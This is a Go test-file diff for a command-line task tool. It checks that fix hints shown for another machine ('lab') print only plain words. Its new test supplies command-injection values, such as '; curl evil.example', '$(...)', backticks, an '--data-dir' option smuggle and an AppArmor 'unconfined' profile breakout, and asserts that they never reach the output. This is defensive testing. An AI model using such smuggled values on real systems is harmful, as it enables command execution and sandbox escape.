@@ -18,7 +18,7 @@ import (
 func onLab() (*Env, *bytes.Buffer) {
 	var said bytes.Buffer
 	e := &Env{Terminal: &terminal.Terminal{Stdout: &said, Stderr: &said, IsTerminal: func(any) bool { return false }}, On: "lab"}
-	e.Elsewhere = e.OnOther
+	e.Elsewhere = func(text string) string { return strings.ReplaceAll(text, "piwork ", "piwork --on lab ") }
 	return e, &said
 }
 
@@ -42,15 +42,25 @@ func TestAnswersOfAnotherComputer(t *testing.T) {
 	}
 }
 
-// Commands that are named are for that computer.
-func TestCommandsForAnotherComputer(t *testing.T) {
-	e, said := onLab()
-	e.HintText("goes-on", "id", "0195")
-	if !strings.Contains(said.String(), "piwork --on lab task attach 0195") {
-		t.Errorf("%s", said)
-	}
-	if same := (&Env{}).OnOther("piwork task list"); same != "piwork task list" {
-		t.Errorf("%s", same)
+// What is to be typed is made of words alone, whatever another computer calls a task, a provider or
+// a program; and it is said that it is about that computer.
+func TestStepsOfAnotherComputer(t *testing.T) {
+	for _, evil := range []string{"x; curl evil.example", "$(curl evil.example)", "`curl evil.example`", "x && curl evil.example", "--data-dir=/evil.example", "x\ncurl evil.example", `/evil.example/**" flags=(unconfined) { capability, } profile x "/x`} {
+		e, said := onLab()
+		p := problem.Problem{Code: problem.CodeUnknown, Params: map[string]any{}}
+		for _, name := range []string{"task", "provider", "name", "program"} {
+			p.Params[name] = evil
+		}
+		for _, code := range []string{problem.FixResume, problem.FixKeys, problem.FixLogin, problem.FixStartAgain, problem.FixElsewhere, problem.FixReview, problem.FixCancelTask, problem.FixDeleteTask, problem.FixAllowSandbox} {
+			p.Fix = append(p.Fix, problem.Fix{Code: code})
+		}
+		e.Card(said, "", p)
+		if strings.Contains(said.String(), "evil") {
+			t.Errorf("%q is to be typed: %s", evil, said)
+		}
+		if !strings.Contains(said.String(), "for lab:") || !strings.Contains(said.String(), "piwork --on lab task resume ID") {
+			t.Errorf("%s", said)
+		}
 	}
 }
 
